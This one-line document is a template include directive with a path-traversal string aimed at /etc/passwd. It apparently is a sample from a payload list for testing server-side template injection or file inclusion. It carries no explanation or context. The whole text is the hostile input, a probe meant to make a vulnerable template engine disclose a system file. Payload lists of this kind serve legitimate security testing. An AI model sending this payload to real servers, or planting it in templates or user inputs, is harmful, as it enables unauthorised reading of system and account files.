<#include "/../../../../../etc/passwd">
